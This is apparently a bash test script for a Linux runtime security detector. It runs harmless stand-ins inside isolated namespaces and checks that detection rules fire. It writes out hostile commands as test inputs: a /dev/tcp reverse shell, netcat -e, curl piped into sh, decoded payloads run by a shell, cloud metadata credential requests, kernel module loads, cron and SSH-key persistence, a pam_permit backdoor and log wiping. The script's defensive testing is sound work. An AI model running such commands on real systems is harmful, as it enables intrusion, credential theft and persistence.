#!/usr/bin/env bash
# The attack corpus: one line per attack scenario (your own, safe: copies of
# /bin/true under telling names, loopback servers, files under a temp dir or
# a tmpfs of a private mount namespace; no real malware). Each runs under the
# default ruleset twice: in detect mode its rule must alert (action none), in
# prevent mode with the action docs/rules.md's table gives (denied, killed, or
# none: detected only). Everything runs in fresh mount and network
# namespaces with only loopback up, so nothing can leave the machine (the
# metadata addresses are unreachable) and the files written (/etc/cron.d,
# /var/log, ...) are tmpfs copies.
# VIGIL_SCN_TABLE=FILE writes the markdown table of docs/rules.md.
if [ -z "${VIGIL_SCN_NS:-}" ]; then
  if ! unshare -mn true 2>/dev/null; then echo "SKIP: attack corpus needs mount and network namespaces (root)"; exit 0; fi
  VIGIL_SCN_NS=1 exec unshare -mn --propagation private bash "$0" "$@"
fi
source "$(dirname "$0")/lib.bash"
private_network
for d in /etc/cron.d /etc/profile.d /usr/local/sbin /var/log /etc/pam.d; do
  [ -d "$d" ] && mount -t tmpfs tmpfs "$d"
done
export HOME="$T/home" AWS_CONTAINER_CREDENTIALS_RELATIVE_URI=/v2/credentials/0d9b-test
mkdir -p "$HOME/.ssh" "$T/.cache" "$T/.s" "$T/cgroup" "$T/m"

# A loopback HTTP-ish server (answers and closes) and a unix "docker.sock".
"$PY" - "$T" <<'PY' &
import os, socket, sys, threading
t = sys.argv[1]
s = socket.socket(); s.bind(("0.0.0.0", 0)); s.listen(64)  # lo only: a private network namespace
u = socket.socket(socket.AF_UNIX); u.bind(t + "/docker.sock"); u.listen(8)
open(t + "/port.tmp", "w").write(str(s.getsockname()[1])); os.rename(t + "/port.tmp", t + "/port")
def serve(l):
    while True:
        c, _ = l.accept()
        try:
            c.settimeout(2); c.recv(4096); c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")
        except OSError:
            pass
        c.close()
threading.Thread(target=serve, args=(u,), daemon=True).start()
serve(s)
PY
server=$!
trap 'kill $server 2>/dev/null; rm -rf "$T"' EXIT
for _ in $(seq 100); do [ -e "$T/port" ] && break; sleep 0.1; done
export PORT; PORT=$(cat "$T/port")

# Stand-ins: /bin/true (or a shell) under the name the rule knows.
for n in xmrig nmap nc insmod modprobe lsmod apt-get pip shred tor linpeas.sh; do cp /bin/true "$T/$n"; done
cp /bin/true "$T/.cache/kworker"; cp /bin/true "$T/.x"
printf '#!/bin/sh\ntrue\n' >"$T/.s/run.sh"; chmod +x "$T/.s/run.sh"
for n in nginx gunicorn php-fpm; do cp /bin/bash "$T/$n"; done
echo data >/var/log/app.log; echo old >/var/log/app.log.1

bad=0
table="| scenario | rule | \`--mode=prevent\` |
|---|---|---|"
# attack NAME RULE PREVENT CMD...: see the header.
attack() {
  local name=$1 rule=$2 prevent=$3 got; shift 3
  vrun detect -- "$@"
  got=$(alerts)
  if ! grep -qF "$rule|none|" <<<"$got"; then
    echo "FAIL: $name (detect): expected '$rule'; got: ${got:-none}" >&2; tail -5 "$T/err" >&2; bad=1; return
  fi
  vrun prevent -- "$@"
  got=$(alerts)
  if ! grep -qF "$rule|$prevent|" <<<"$got"; then
    echo "FAIL: $name (prevent): expected '$rule' $prevent; got: ${got:-none}" >&2; tail -5 "$T/err" >&2; bad=1; return
  fi
  local word=$prevent
  case $prevent in denied) word="blocked (EPERM)";; killed) word="blocked (SIGKILL)";; none) word="detected only";; esac
  table+=$'\n'"| $name | $rule | $word |"
  echo "$name: ok"
}
py() { attack "$1" "$2" "$3" "$PY" -c "$4"; }

# --- crypto mining
attack miner-by-name "Crypto miner executed" killed "$T/xmrig"
attack miner-stratum-url "Crypto miner executed" killed /bin/sh -c 'true "$0"' "stratum+tcp://pool.example:3333"
attack miner-options "Crypto miner executed" killed /bin/sh -c 'true --donate-level 1 --cpu-priority 5'
py stratum-subscribe-sendmsg "Mining protocol spoken" denied 'import os, socket
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 5)
s.sendmsg([b"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cpuminer/2.5\"]}\n"])'
py stratum-login-sendto "Mining protocol spoken" denied 'import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"k/1.0\"}}", ("127.0.0.1", int(os.environ["PORT"])))'
py stratum-send-connected "Mining protocol spoken" killed 'import os, socket
s = socket.create_connection((os.environ["REMOTE"], int(os.environ["PORT"])), 5)
s.send(b"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"xmrig/6.21\"]}\n")'
py stratum-write-event-loop "Mining protocol spoken" killed 'import os, select, socket
s = socket.socket(); s.setblocking(False)
s.connect_ex((os.environ["REMOTE"], int(os.environ["PORT"]))); select.select([], [s], [], 5)
os.write(s.fileno(), b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21\"}}\n")'
py mining-pool-dns "Mining pool domain queried" denied 'import socket, struct
q = struct.pack(">HHHHHH", 0x1234, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in "xmr-eu1.nanopool.org".split(".")) + b"\0" + struct.pack(">HH", 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))'
# --- reverse shells and remote execution
py reverse-shell-stdio "Reverse shell" killed 'import os, socket
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 5)
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.execv("/bin/sh", ["sh", "-c", "true"])'
attack reverse-shell-dev-tcp "Reverse shell" killed /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT; echo x >&3'
attack netcat-exec "Socat or netcat spawning a program" killed "$T/nc" 127.0.0.1 "$PORT" -e /bin/sh
py stdio-dup-socket "Standard stream redirected to a network socket" none 'import os, socket
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 5); os.dup2(s.fileno(), 1)'
attack curl-pipe-sh "Download piped into a shell" none /bin/sh -c 'curl -s -m 5 http://127.0.0.1:$PORT/i.sh | sh'
attack base64-pipe-sh "Decoded payload piped into a shell" denied /bin/sh -c 'echo dHJ1ZQo= | base64 -d | sh'
attack xxd-pipe-bash "Decoded payload piped into a shell" denied /bin/sh -c 'echo 747275650a | xxd -r -p | bash'
attack openssl-pipe-sh "Decoded payload piped into a shell" denied /bin/sh -c 'echo dHJ1ZQo= | openssl base64 -d | /bin/sh'
attack python-exec-b64 "Decoded payload piped into a shell" denied "$PY" -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))'
attack perl-eval-b64 "Decoded payload piped into a shell" denied perl -MMIME::Base64 -e 'eval(decode_base64("MTs="))'
attack web-shell-sh "Shell spawned by a network service" none "$T/nginx" -c '/bin/sh -c true; true'
attack web-shell-python "Shell spawned by a network service" none "$T/gunicorn" -c '"$0" -c "import os"; true' "$PY"
attack web-shell-id "Shell spawned by a network service" none "$T/php-fpm" -c 'id >/dev/null; true'
py web-shell-accepted-conn "Shell spawned by a network service" none 'import socket, subprocess, threading
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
threading.Thread(target=lambda: socket.create_connection(l.getsockname(), 5).recv(1), daemon=True).start()
c, _ = l.accept(); subprocess.run(["/bin/sh", "-c", "id >/dev/null"]); c.close()'
# --- drift, hiding, fileless
attack offensive-tool "Offensive tool executed" none "$T/nmap" -sS 127.0.0.1
attack offensive-script "Offensive tool executed" none "$T/linpeas.sh"
attack dropped-binary "Drifted binary executed" none /bin/sh -c 'cp /bin/true "$0"; "$0"' "$T/dropped"
attack hidden-dot-dir "Hidden executable run" none "$T/.cache/kworker"
attack hidden-dot-name "Hidden executable run" none "$T/.x"
attack hidden-script "Hidden executable run" none "$T/.s/run.sh"
attack memfd-exec "Fileless execution from memory" killed "$FIXTURES/scenario_memfd" /bin/true
if [ -d /dev/shm ] && [ -w /dev/shm ]; then
  shm=$(mktemp -d /dev/shm/vigil-atk.XXXXXX); cp /bin/true "$shm/d"
  trap 'kill $server 2>/dev/null; rm -rf "$T" "$shm"' EXIT
  attack dev-shm-exec "Program run from /dev/shm" denied "$shm/d"
fi
# --- cloud credentials
attack ecs-creds-curl "ECS task credentials requested by a tool or script" denied curl -s -m 1 "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"
py ecs-creds-python "ECS task credentials requested by a tool or script" denied 'import os, socket
try: socket.create_connection(("169.254.170.2", 80), 1)
except OSError: pass'
attack ecs-creds-env "ECS task credentials requested by a tool or script" denied /bin/sh -c 'wget -q -T 1 -O- 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI; true'
attack imds-curl "Cloud metadata URL on a command line" none curl -s -m 1 http://169.254.169.254/latest/meta-data/
py imds-tool-connect "Instance metadata service contacted" none 'import socket
try: socket.create_connection(("169.254.169.254", 80), 1)
except OSError: pass'
# --- kernel surface
attack insmod "Kernel module load attempted" denied "$T/insmod" "$T/r.ko"
attack modprobe "Kernel module load attempted" denied "$T/modprobe" dummy
attack ko-written "Kernel module load attempted" denied /bin/sh -c ': >"$0"' "$T/rootkit.ko"
attack lsmod "Kernel module list read" none "$T/lsmod"
attack proc-modules "Kernel module list read" none cat /proc/modules
py io-uring "io_uring set up" denied 'import ctypes; ctypes.CDLL(None, use_errno=True).syscall(425, 4, ctypes.create_string_buffer(120))'
py userfaultfd "Userfaultfd or secret memory used" denied 'import ctypes; ctypes.CDLL(None, use_errno=True).syscall(323, 0)'
attack ptrace-attach "Ptrace injection" denied "$FIXTURES/scenario_ptrace"
py proc-mem-write "Process memory written through /proc" denied 'import os
try: open(f"/proc/{os.getpid()}/mem", "r+b").close()
except OSError: pass'
py process-vm-writev "Process memory written with process_vm_writev" denied 'import ctypes, os
ctypes.CDLL(None, use_errno=True).syscall(311, os.getpid(), None, 0, None, 0, 0)'
# --- escape and privilege
attack mount-tmpfs "Mount attempted in container" denied /bin/sh -c 'mount -t tmpfs none "$0" && umount "$0"' "$T/m"
attack unshare-tool "Namespace change attempted" none unshare -U true
attack release-agent "Cgroup release_agent modified" denied /bin/sh -c ': >"$0"' "$T/cgroup/release_agent"
py docker-socket "Docker socket accessed" denied 'import os, socket
try: socket.socket(socket.AF_UNIX).connect(os.environ["HOME"] + "/../docker.sock")
except OSError: pass'
py setuid-root "Privilege raised to root" denied 'import os, sys
os.setresuid(65534, 65534, 65534)  # then a non-root program asks for root
os.execv(sys.executable, [sys.executable, "-c", "import os\ntry: os.setuid(0)\nexcept OSError: pass"])'
attack setuid-bit "Setuid or setgid bit set" none /bin/sh -c 'cp /bin/true "$0"; chmod u+s "$0"' "$T/suid"
# --- persistence and evasion (tmpfs copies of the directories)
attack cron-job "Cron job modified" none /bin/sh -c 'echo "* * * * * root true" >/etc/cron.d/job'
attack cron-link "Cron job modified" none /bin/sh -c 'echo "* * * * * root true" >"$0"; rm -f /etc/cron.d/linked; ln -s "$0" /etc/cron.d/linked' "$T/cronjob"
attack authorized-keys "SSH authorized keys modified" none /bin/sh -c 'echo "ssh-ed25519 AAAA x" >>"$HOME/.ssh/authorized_keys"'
attack ssh-dir-link "SSH authorized keys modified" none /bin/sh -c 'rm -rf "$HOME/.ssh"; mkdir -p "$0"; ln -s "$0" "$HOME/.ssh"' "$T/keys"
attack profile-link "Startup script modified" none /bin/sh -c 'echo true >"$0"; rm -f /etc/profile.d/linked.sh; ln -s "$0" /etc/profile.d/linked.sh' "$T/profile"
attack profile-script "Startup script modified" none /bin/sh -c 'echo true >/etc/profile.d/x.sh'
[ -d /etc/pam.d ] && attack pam-modified "Authentication configuration modified" none /bin/sh -c 'echo "auth sufficient pam_permit.so" >/etc/pam.d/sshd'
attack system-bin-write "System binary directory written" none /bin/sh -c 'cp /bin/true /usr/local/sbin/helper'
attack log-truncated "Log file cleared or removed" none /bin/sh -c ': >/var/log/app.log; echo data >/var/log/app.log'
attack rotated-log-rm "Log file cleared or removed" none /bin/sh -c 'rm -f /var/log/app.log.1; echo old >/var/log/app.log.1'
attack history-devnull "Log file cleared or removed" none /bin/sh -c 'ln -sf /dev/null "$HOME/.bash_history"'
attack credential-grep "Credential search with grep or find" none /bin/sh -c 'grep -ri aws_secret_access_key "$HOME" || true'
attack suid-find "Container environment reconnaissance" none /bin/sh -c 'find "$HOME" -perm -4000 >/dev/null'
attack apt-get-runtime "Package manager run in container" none "$T/apt-get" install -y nmap
attack shred "Bulk data destruction tool" none "$T/shred" -u x
attack tor "Tor client or relay activity" none "$T/tor"

[ -z "${VIGIL_SCN_TABLE:-}" ] || printf '%s\n' "$table" >"$VIGIL_SCN_TABLE"
echo "$(($(wc -l <<<"$table") - 2)) attack scenarios passed"
[ $bad = 0 ] || fail "attack scenarios failed"
echo ok
